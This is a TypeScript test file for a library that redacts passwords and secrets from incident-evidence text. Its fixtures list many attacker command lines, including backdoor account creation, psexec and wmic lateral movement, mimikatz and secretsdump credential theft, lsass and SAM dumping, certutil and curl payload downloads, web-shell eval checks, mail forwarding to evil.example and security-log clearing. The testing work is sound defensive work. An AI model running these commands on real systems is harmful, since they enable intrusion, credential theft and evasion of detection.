import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { secretsIn, secretTag, valueWithoutSecrets, withoutSecrets } from '../../src/lib/secrets.ts'

const S = 'Zq7!canary'
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')

const hidden: readonly string[] = [
  `net user backdoor ${S} /add`,
  `net user backdoor "${S}" /add /domain`,
  `C:\\Windows\\System32\\net1.exe user backdoor ${S} /add`,
  `"C:\\Windows\\system32\\net.exe" user "back door" ${S}`,
  `net user a /add ${S}`,
  `cmd.exe /c net user a ${S} /add & net localgroup administrators a /add`,
  `net use z: \\\\10.0.0.5\\c$ ${S} /user:contoso\\admin`,
  `net use \\\\10.0.0.5\\c$ /user:contoso\\admin ${S}`,
  `net use \\\\10.0.0.5\\ipc$ "${S}" /user:admin`,
  `New-LocalUser -Name x -Password ${S}`,
  `Connect-X -Password:"${S}" -Server y`,
  `tool.exe --password=${S}`,
  `tool.exe --password '${S}'`,
  `svc.exe -p:${S}`,
  `svc.exe /p:${S} /x`,
  `p.exe -u contoso\\admin -p ${S} \\\\dc cmd`,
  `psexec.exe \\\\dc -u admin -p ${S} cmd`,
  `PsExec64 -accepteula \\\\dc -u admin -p "${S}" cmd`,
  `schtasks /create /tn x /tr y /ru admin /rp ${S}`,
  `schtasks.exe /create /s dc /u admin /p ${S} /tn x`,
  `sqlcmd -S db -U sa -P ${S} -Q "select 1"`,
  `sqlcmd -S db -U sa -P${S}`,
  `bcp db.dbo.t out x -S db -U sa -P ${S}`,
  `mysql -u root -p${S} db`,
  `mysqldump --password=${S} db`,
  `curl -u admin:${S} https://files.example/`,
  `curl.exe --proxy-user "admin:${S}" https://files.example/`,
  `curl https://admin:${S}@files.example/x`,
  `wmic /node:dc /user:admin /password:${S} process call create cmd`,
  `wmic /node:dc /user:"admin" /password:"${S}" os`,
  `cmdkey /add:dc /user:admin /pass:${S}`,
  `plink.exe -ssh -pw ${S} root@198.51.100.7`,
  `pscp -pw "${S}" a b:c`,
  `winrs -r:dc -u:admin -p:${S} whoami`,
  `wevtutil qe Security /r:dc /u:admin /p:${S}`,
  `rar a -hp${S} out.rar C:\\x`,
  `7z.exe a -p${S} out.7z C:\\x`,
  `certutil -f -p ${S} -importpfx x.pfx`,
  `dsadd user cn=x -pwd ${S} -memberof y`,
  `bitsadmin /setcredentials job server basic admin ${S}`,
  `secretsdump.py contoso/admin:${S}@10.0.0.5`,
  `mimikatz sekurlsa::pth /user:admin /ntlm:${S}`,
  `$s = ConvertTo-SecureString "${S}" -AsPlainText -Force`,
  `ConvertTo-SecureString -String '${S}' -AsPlainText`,
  `ConvertTo-SecureString -AsPlainText -Force ${S}`,
  `"${S}" | ConvertTo-SecureString -AsPlainText -Force`,
  `new NetworkCredential("svc", "${S}")`,
  `New-Object System.Net.NetworkCredential('svc','${S}','contoso')`,
  `New-Object System.Net.NetworkCredential -ArgumentList "svc", "${S}"`,
  `new NetworkCredential(\\"svc\\", \\"${S}\\")`,
  `New-Object PSCredential("svc", (ConvertTo-SecureString "${S}" -AsPlainText -Force))`,
  `LogonUser("svc", "contoso", "${S}", 2, 0, ref token)`,
  `string password = "${S}";`,
  `if (Request["p"] == "x" && pwd == "${S}") eval(y);`,
  `if (Request["pwd"] == "${S}") eval(x);`,
  `if ($_POST['pass']=='${S}') x();`,
  `/aspnet_client/x.aspx?pass=${S}&cmd=whoami`,
  `Server=db;User Id=sa;Password=${S};Encrypt=true`,
  `Data Source=db;uid=sa;pwd=${S}`,
  `<add name="db" connectionString="Server=db;Password=${S};" />`,
  `DefaultEndpointsProtocol=https;AccountName=x;AccountKey=${S}==;`,
  `<machineKey validationKey="${S}" decryptionKey="AutoGenerate" />`,
  `{"user":"a","password":"${S}"}`,
  `{\\"password\\":\\"${S}\\"}`,
  `{"Name":"Password","Value":"${S}"}`,
  `<Parameter Name="Password" Value="${S}" />`,
  `<Data Name="Password">${S}</Data>`,
  `<t:Password>${S}</t:Password>`,
  `<AutoLogon><Password><Value>${S}</Value></Password></AutoLogon>`,
  `/owa/auth.owa?user=a&password=${S}&x=1`,
  `body: password%3D${S}&x`,
  `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${S}.&a=1`,
  `Cookie: X-OWA-CANARY=${S}; x=y`,
  `Cookie: cadata=${S}; cadataTTL=1`,
  `Authorization: Bearer ${S}.0123456789abcdef`,
  `-Headers @{Authorization="Bearer ${S}0123456789abcdef"}`,
  `Authorization: Basic ${Buffer.from(`admin:${S}`).toString('base64')}`,
  `Basic ${Buffer.from(`admin:${S}`).toString('base64')}`,
  `https://x.blob.example/a?sv=1&sig=${S}&se=2`,
  `powershell -EncodedCommand ${utf16(`net user a ${S} /add`)}`,
  `[Convert]::FromBase64String("${Buffer.from(`new NetworkCredential("a","${S}")`).toString('base64')}")`,
  `-----BEGIN RSA PRIVATE KEY-----\n${S}\n-----END RSA PRIVATE KEY-----`,
  // A text that was cut within the secret, or behind its quote.
  `net user a "${S}`,
  `new NetworkCredential("svc", "${S}`,
  `{"CommandLine":"net user \\"back door\\" \\"${S}\\" /add"}`,
  `<Data>net user &quot;back door&quot; &quot;${S}&quot; /add</Data>`,
  `<Data>psexec \\\\dc -u &quot;admin&quot; -p &quot;${S}&quot; cmd</Data>`,
  `<Data>new NetworkCredential(&quot;svc&quot;, &quot;${S}&quot;)</Data>`,
  `GET /aspnet_client/x.aspx cmd=net+user+helper+${S}+/add 443`,
  `GET /aspnet_client/x.aspx cmd=net%20user%20helper%20${S}%20/add&x=1 443`,
  `GET /owa/x a=net%2520user%2520helper%2520${S}%2520/add`,
  `sshpass -p${S} ssh root@198.51.100.7`,
  `cmd /c n^et us^er a ${S} /add`,
]

const shown: readonly string[] = [
  'net user /domain',
  'net user backdoor /domain',
  'net user backdoor /add',
  'net user backdoor * /add',
  'net users',
  'net user',
  'net user > C:\\inetpub\\wwwroot\\aspnet_client\\u.txt',
  'net user backdoor 2>&1',
  'net use',
  'net use z: /delete',
  'net use \\\\10.0.0.5\\c$ /user:contoso\\admin *',
  'net localgroup administrators backdoor /add',
  'ssh -p 443 root@198.51.100.7',
  'nmap -p 80,443 10.0.0.0/24',
  'psexec \\\\dc -s cmd /c whoami',
  'mkdir -p /tmp/x',
  'tool /p 8080',
  'msbuild x.sln /p:Configuration=Release /p:Platform=x64',
  'schtasks /create /tn x /tr "cmd /c whoami" /sc daily',
  'curl -o C:\\inetpub\\x.aspx http://198.51.100.9/x',
  'https://mail.contoso.example:444/owa/auth.owa',
  'https://Administrator@mail.contoso.example:444/autodiscover',
  'X-BEResource=Administrator@mail:444/ecp/proxyLogon.ecp?a=~1942062522;',
  '/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example',
  'Set-Mailbox -Identity a -ForwardingSmtpAddress b@evil.example',
  'Set-ADUser x -PasswordNeverExpires $true',
  'PasswordLastSet: 2021-03-03',
  'New-MailboxExportRequest -Mailbox a -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\x.aspx',
  'New-LocalUser -Name x -Password $pw',
  'ConvertTo-SecureString $plain -AsPlainText -Force',
  'pwd = Request.Form["pwd"]; eval(Request["password"]);',
  'password=%PASS%',
  'string pw = Request["pw"];',
  'bypass=AMSI',
  'test 1 pass = 200 OK',
  'Password: ***',
  'Basic authentication is disabled; basic understanding',
  '3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b',
  'C:\\Windows\\System32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0"',
  'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full',
  'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  'reg save HKLM\\SAM C:\\temp\\sam.hiv',
  'The password policy was changed',
  'Failed to read the token: access denied',
  'GET /owa/auth/shell.aspx - 443 - 203.0.113.7 Mozilla/5.0 - 200 0 0 15',
  'wevtutil cl Security',
  'GET /x cmd=net+user+/domain&a=b%20c 443',
  'certutil -urlcache -split -f http://198.51.100.9/a.exe a.exe',
]

describe('secrets in texts of the evidence', () => {
  for (const text of hidden) {
    it(`hides ${text.slice(0, 70)}`, () => {
      const out = withoutSecrets(text, 'key')
      assert.doesNotMatch(out, /canary/i.test(S) ? new RegExp(S.slice(0, 5)) : /x/)
      assert.match(out, /\[secret [0-9a-f]{8}\]/)
      for (const [blob] of out.matchAll(/[A-Za-z0-9+/]{16,}/g)) {
        const bytes = Buffer.from(blob, 'base64')
        assert.ok(!bytes.toString('latin1').includes(S) && !bytes.toString('utf16le').includes(S))
      }
      assert.equal(withoutSecrets(out, 'key'), out)
    })
  }

  for (const text of shown) it(`shows ${text.slice(0, 70)}`, () => assert.equal(withoutSecrets(text, 'key'), text))

  it('the rest of a command stays readable', () => {
    assert.equal(
      withoutSecrets('cmd /c net user a P4ss /add & net localgroup administrators a /add', null),
      'cmd /c net user a [secret] /add & net localgroup administrators a /add',
    )
    assert.equal(
      withoutSecrets('Server=db;User Id=sa;Password=P4ss;Encrypt=true', null),
      'Server=db;User Id=sa;Password=[secret];Encrypt=true',
    )
  })

  it('one secret has one tag in all its forms, and another one under another key', () => {
    const tag = secretTag('P4ss', 'a')
    for (const text of ['net user a P4ss /add', 'pwd="P4ss"', 'new NetworkCredential("a","P4ss")'])
      assert.ok(withoutSecrets(text, 'a').includes(tag), text)
    assert.notEqual(secretTag('P4ss', 'b'), tag)
    assert.notEqual(secretTag('P4st', 'a'), tag)
  })

  it('fields by their name, and words that are known', () => {
    const value = {
      facts: { Password: 'P4ss word', CommandLine: 'x Kn0wn-one y', sha256: 'password=abc' },
      sha256: 'password=abc',
    }
    assert.deepEqual(
      valueWithoutSecrets(value, null, (name) => name === 'sha256', new Set(['Kn0wn-one'])),
      {
        facts: { Password: '[secret]', CommandLine: 'x [secret] y', sha256: 'password=[secret]' },
        sha256: 'password=abc',
      },
    )
  })

  it('ends for hostile texts', () => {
    const pieces = [
      'net user ',
      'password=',
      '"',
      "'",
      '-p ',
      '/p:',
      'psexec ',
      '://a:',
      '@',
      'NetworkCredential(',
      '\\"',
      'A'.repeat(40),
      ' ',
      '<password>',
      'Basic ',
      'eyJ',
      '.',
      'name="password" ',
      'a/b:',
      'reg.exe ',
      '-',
      'x',
    ]
    for (const piece of pieces) secretsIn(piece.repeat(Math.ceil(200_000 / piece.length)))
    for (const a of pieces) for (const b of pieces) secretsIn((a + b).repeat(2_000))
  })
})
